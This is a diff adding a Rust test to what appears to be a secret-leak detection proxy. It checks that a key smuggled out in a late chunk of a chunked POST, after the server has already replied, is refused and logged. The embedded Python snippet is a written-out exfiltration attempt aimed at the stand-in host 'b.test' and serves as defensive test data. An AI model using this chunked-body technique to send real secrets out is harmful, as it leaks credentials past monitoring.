@@ -248,3 +248,27 @@ s.sendall(get('a.test', '/open')); print(s.recv(1000).split()[-1].decode())",
     let open: usize = outcome.stdout().trim().parse().unwrap();
     assert!((2..=140).contains(&open), "{open}");
 }
+
+#[test]
+fn what_a_server_has_answered_before_it_was_sent_is_refused_and_found_too() {
+    let origin = RawOrigin::start(
+        &NAMES,
+        &[("early", b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")],
+    );
+    let outcome = attempt(
+        &origin,
+        "import time
+s = tls('b.test', 'b.test')
+s.sendall(get('b.test', '/early', 'Transfer-Encoding: chunked\\r\\n', 'POST') + b'1\\r\\na\\r\\n')
+print(s.recv(1000)); time.sleep(0.5)
+say(s, f'{len(KEY):x}\\r\\n{KEY}\\r\\n0\\r\\n\\r\\n'.encode())",
+    );
+    outcome.success().refused_by("secrets.API_KEY");
+    let found = outcome.events().into_iter();
+    assert_eq!(
+        found
+            .filter(|e| matches!(e.act, Act::Finding { .. }))
+            .count(),
+        1
+    );
+}
